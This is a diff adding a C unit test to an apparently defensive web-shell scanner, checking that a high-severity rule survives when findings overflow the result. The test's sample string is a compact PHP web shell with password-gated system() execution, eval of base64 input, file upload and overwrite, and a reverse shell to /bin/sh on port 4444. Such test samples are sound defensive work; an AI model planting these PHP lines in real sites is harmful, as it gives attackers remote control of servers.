@@ -19,6 +19,7 @@
 #include "json.h"
 #include "jsonparse.h"
 #include "t.h"
+#include "util.h"
 
 static struct fx fx;
 static char rule_path[256];
@@ -312,6 +313,62 @@ test_summary_json(void)
 	buf_free(&b);
 }
 
+/* a content with more findings than a result holds: the weakest give way,
+ * so a strong rule matching after many weak ones is still in the result */
+static void
+test_full_result(void)
+{
+	static const char shell[] =
+		"<?php\n"
+		"if (md5($_POST['pw']) == '5f4dcc3b5aa765d61d8327deb882cf99') { system($_POST['c']); }\n"
+		"eval(base64_decode($_POST['e']));\n"
+		"include($_FILES['u']['tmp_name']);\n"
+		"move_uploaded_file($_FILES['u']['tmp_name'], $_POST['d']);\n"
+		"file_put_contents(__FILE__, $_POST['s']);\n"
+		"readfile($_GET['path']);\n"
+		"mail($_POST['to'], $_POST['s'], $_POST['b']);\n"
+		"$s = fsockopen($_POST['h'], 4444); proc_open('/bin/sh', array($s, $s, $s), $p);\n"
+		"$z = str_rot13(gzinflate(base64_decode('AAAA')));\n";
+	char path[256], err[256] = "";
+	const char *g[1] = { path };
+	struct buf rset, text;
+	struct analyse *a = NULL;
+	struct analyse_result r;
+	unsigned i, nweak = 14, nps = 0;
+
+	buf_init(&rset, 4096);
+	buf_init(&text, 4096);
+	buf_puts(&text, shell);
+	for (i = 0; i < nweak; i++) {
+		buf_printf(&rset, "rule wsid_test_w%02u { meta: class = \"weak-%02u\" strings: $m = \"WSID-W%02u\" condition: $m }\n",
+			   i, i, i);
+		buf_printf(&text, "// WSID-W%02u\n", i);
+	}
+	buf_puts(&rset, "rule wsid_test_z_high { meta: class = \"test-z-high\" severity = \"high\" "
+			 "strings: $h = \"WSID-Z-HIGH\" condition: $h }\n");
+	buf_puts(&text, "// WSID-Z-HIGH\n");
+	snprintf(path, sizeof(path), "%s/rules/full.yar", fx.dir);
+	T_OK(fx_put_at(fx.dir, "rules/full.yar", rset.data) == 0);
+	T_EQ_INT(analyse_new(g, 1, &a, err, sizeof(err)), 0);
+	if (a == NULL) {
+		printf("# %s\n", err);
+		goto out;
+	}
+	T_EQ_INT(run(a, text.data, &r), 0);
+	for (i = 0; i < r.n; i++)
+		nps += strcmp(r.f[i].rule, "phpscan") == 0;
+	/* the premise: phpscan's findings and the rules' fill the result */
+	T_CHECK(nps >= 8, "phpscan found %u", nps);
+	T_EQ_INT(r.n, ANALYSE_FINDINGS_MAX);
+	T_OK(finding(&r, "wsid_test_z_high", "test-z-high") != NULL);
+	T_OK(sorted(&r));
+	T_EQ_INT(r.verdict, ANALYSE_MALICIOUS);
+	analyse_free(a);
+out:
+	buf_free(&rset);
+	buf_free(&text);
+}
+
 int
 main(void)
 {
@@ -329,6 +386,7 @@ main(void)
 	T_RUN(test_rules_version);
 	T_RUN(test_encode_decode);
 	T_RUN(test_summary_json);
+	T_RUN(test_full_result);
 	fx_close(&fx);
 	T_DONE();
 }
